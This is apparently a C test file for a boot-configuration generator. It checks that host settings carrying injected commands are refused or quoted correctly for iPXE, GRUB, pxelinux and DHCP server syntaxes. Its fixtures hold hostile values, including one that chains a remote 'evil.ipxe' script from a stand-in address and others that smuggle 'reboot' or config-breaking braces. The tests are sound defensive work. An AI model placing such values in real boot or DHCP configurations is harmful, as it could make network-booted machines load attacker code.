/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Each output syntax: a value in, the exact text out or the refusal (the
 * offending bytes); then whole generators fed a hostile host setting.
 */
#include <stdlib.h>
#include <string.h>

#include "../../bootcfg/escape.h"
#include "../../bootcfg/gen.h"
#include "tap.h"

struct row {
	const char *in;
	const char *out;        /* NULL: refused */
	const char *bad;        /* the bytes named in the refusal */
};

static void table(enum bc_syntax syn, const struct row *rows, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		const struct row *r = &rows[i];
		struct sbuf b = { 0 };
		struct bc_refusal why = { 0 };
		bool good = bc_escape(syn, r->in, strlen(r->in), &b, &why);

		if (r->out) {
			ok(good && strcmp(b.p ? b.p : "", r->out) == 0,
			   "%s: [%s] -> [%s]", bc_syntax_name(syn), r->in,
			   r->out);
			if (!good || strcmp(b.p ? b.p : "", r->out) != 0)
				diag("got [%s]", good ? b.p : "(refused)");
		} else {
			ok(!good && b.len == 0 && why.len == strlen(r->bad) &&
			   memcmp(r->in + why.at, r->bad, why.len) == 0 &&
			   why.why != NULL,
			   "%s: [%s] refused at [%s]", bc_syntax_name(syn),
			   r->in, r->bad);
		}
		sb_free(&b);
	}
}

#define TABLE(syn, rows) table(syn, rows, sizeof(rows) / sizeof(rows[0]))

/* Refused by every syntax. */
static const char *const control[] = { "a\nb", "a\rb", "a\tb\x01", "\x7f",
				       "caf\xc3\xa9" };

static void everywhere(void)
{
	for (int syn = 0; syn < BC_SYN_COUNT; syn++) {
		for (size_t i = 0; i < sizeof(control) / sizeof(control[0]);
		     i++) {
			struct sbuf b = { 0 };
			struct bc_refusal r;

			ok(!bc_escape((enum bc_syntax)syn, control[i],
				      strlen(control[i]), &b, &r) &&
			   b.len == 0,
			   "%s refuses control and non-ASCII bytes (%zu)",
			   bc_syntax_name((enum bc_syntax)syn), i);
			sb_free(&b);
		}
	}
}

static const struct row ipxe_rows[] = {
	{ "console=ttyS0 ip=dhcp", "console=ttyS0 ip=dhcp", NULL },
	{ "a&&b x||y p;q", "a&&b x||y p;q", NULL },
	{ "url=http://h/x#frag", "url=http://h/x#frag", NULL },
	{ "price=$5", "price=$5", NULL },
	{ "site=a && chain http://198.18.0.66/evil.ipxe #", NULL, "&&" },
	{ "a || reboot", NULL, "||" },
	{ "a ; reboot", NULL, ";" },
	{ "&&", NULL, "&&" },
	{ "a #comment", NULL, "#" },
	{ "#", NULL, "#" },
	{ "x=${net0/mac}", NULL, "${" },
	{ "a\\", NULL, "\\" },
	{ "", "", NULL },
};

static const struct row pxelinux_rows[] = {
	{ "console=ttyS0 a&&b # ; ${x} 'q'", "console=ttyS0 a&&b # ; ${x} 'q'",
	  NULL },
	{ "", "", NULL },
};

static const struct row grub_rows[] = {
	{ "/vmlinuz", "/vmlinuz", NULL },
	{ "console=ttyS0,115200", "console=ttyS0,115200", NULL },
	{ "a;reboot", "'a;reboot'", NULL },
	{ "$root", "'$root'", NULL },
	{ "it's", "'it'\\''s'", NULL },
	{ "dhcp && sanboot aoe:e1.0", "'dhcp && sanboot aoe:e1.0'", NULL },
	{ "#x", "'#x'", NULL },
	{ "{a}", "'{a}'", NULL },
	{ "", "''", NULL },
};

static const struct row dhcpd_rows[] = {
	{ "ipxe/a.ipxe", "\"ipxe/a.ipxe\"", NULL },
	{ "a\"; } evil {", "\"a\\\"; } evil {\"", NULL },
	{ "back\\slash", "\"back\\\\slash\"", NULL },
	{ "", "\"\"", NULL },
};

static const struct row dhcpd_word_rows[] = {
	{ "198.18.0.1", "198.18.0.1", NULL },
	{ "node-1.lab", "node-1.lab", NULL },
	{ "1.2.3.4;evil", NULL, ";" },
	{ "a{", NULL, "{" },
	{ "a}", NULL, "}" },
	{ "a b", NULL, " " },
	{ "a\"", NULL, "\"" },
	{ "a#", NULL, "#" },
};

static const struct row dnsmasq_rows[] = {
	{ "ipxe/52-54-00-00-00-01.ipxe", "ipxe/52-54-00-00-00-01.ipxe", NULL },
	{ "a,198.18.0.66", NULL, "," },
	{ "a#b", NULL, "#" },
	{ "a b", NULL, " " },
	{ "\"a\"", NULL, "\"" },
};

static const struct row proxydhcp_rows[] = {
	{ "undionly.kpxe", "undionly.kpxe", NULL },
	{ "a b", "\"a b\"", NULL },
	{ "a#b", "\"a#b\"", NULL },
	{ "say \"hi\"", "\"say \\\"hi\\\"\"", NULL },
	{ "", "\"\"", NULL },
};

static const struct row text_rows[] = {
	{ "a && b # ${c} \"d\" ; 'e'", "a && b # ${c} \"d\" ; 'e'", NULL },
};

static void tables(void)
{
	TABLE(BC_SYN_IPXE, ipxe_rows);
	TABLE(BC_SYN_PXELINUX, pxelinux_rows);
	TABLE(BC_SYN_GRUB, grub_rows);
	TABLE(BC_SYN_DHCPD, dhcpd_rows);
	TABLE(BC_SYN_DHCPD_WORD, dhcpd_word_rows);
	TABLE(BC_SYN_DNSMASQ, dnsmasq_rows);
	TABLE(BC_SYN_PROXYDHCP, proxydhcp_rows);
	TABLE(BC_SYN_TEXT, text_rows);
	is_int(bc_template_syntax("boot.ipxe"), BC_SYN_IPXE, ".ipxe template");
	is_int(bc_template_syntax("ks.cfg"), BC_SYN_TEXT, "other template");
}

/* --- whole generators ------------------------------------------------------ */

static const char profiles[] =
	"[profile t]\nkernel = /linux\nappend = site=@SITE@\n"
	"[profile s]\nsanboot = http://198.18.0.1/disk'$x;reboot;'\n";

struct gen_case {
	const char *host;
	const char *profiles;
};

typedef bool (*host_fn)(const struct bc_env *, const struct bc_host *,
			struct sbuf *);

static bool ipxe_all(const struct bc_env *e, const struct bc_host *h,
		     struct sbuf *b)
{
	return bc_gen_ipxe(e, h, -1, b);
}

/* Generates with fn for the one host in hosts; the output and the diag. */
static bool gen(const char *hosts, host_fn fn, struct sbuf *out,
		struct diag *d)
{
	struct bc_hosts hs = { 0 };
	struct bc_profiles ps = { 0 };
	struct bc_env e = { .hs = &hs, .ps = &ps, .d = d };
	bool good;

	bc_profiles_parse(&ps, "P", profiles, strlen(profiles), d);
	bc_hosts_parse(&hs, "H", hosts, strlen(hosts), d);
	bc_hosts_resolve(&hs, &ps, d);
	good = d->errors == 0 && hs.n == 1 && fn(&e, &hs.v[0], out);
	bc_hosts_free(&hs);
	bc_profiles_free(&ps);
	return good;
}

static const char evil[] =
	"52:54:00:12:34:01 node1 198.18.0.11 t "
	"site=\"a && chain http://198.18.0.66/evil.ipxe #\"\n";

static void generators(void)
{
	struct sbuf b = { 0 };
	struct diag d = { 0 };

	ok(!gen(evil, ipxe_all, &b, &d), "iPXE script refused");
	ok(d.text.p && strstr(d.text.p, "H:1: host node1: kernel arguments: "
					"'&&' in an iPXE script"),
	   "names the host line, the setting and '&&'");
	is_int(d.errors, 1, "reported once, not once per firmware family");
	sb_free(&b);
	diag_free(&d);
	memset(&d, 0, sizeof(d));

	ok(gen(evil, bc_gen_grub, &b, &d), "GRUB quotes instead");
	ok(b.p && strstr(b.p, " site=a '&&' chain http://198.18.0.66/evil.ipxe '#'\n"),
	   "each GRUB word quoted");
	sb_free(&b);
	diag_free(&d);
	memset(&d, 0, sizeof(d));

	ok(gen(evil, bc_gen_pxelinux, &b, &d),
	   "pxelinux: the rest of the APPEND line is the kernel's");
	sb_free(&b);
	diag_free(&d);
	memset(&d, 0, sizeof(d));

	ok(gen("52:54:00:12:34:02 n2 - s\n", bc_gen_grub, &b, &d),
	   "sanboot URI through GRUB");
	ok(b.p && strstr(b.p, "chainloader /ipxe.efi 'dhcp && sanboot "
			      "http://198.18.0.1/disk'\\''$x;reboot;'\\'''\n"),
	   "the iPXE line is one GRUB word");
	if (b.p && !strstr(b.p, "chainloader /ipxe.efi 'dhcp"))
		diag("%s", b.p);
	sb_free(&b);
	diag_free(&d);
}

int main(void)
{
	everywhere();
	tables();
	generators();
	return tap_done();
}
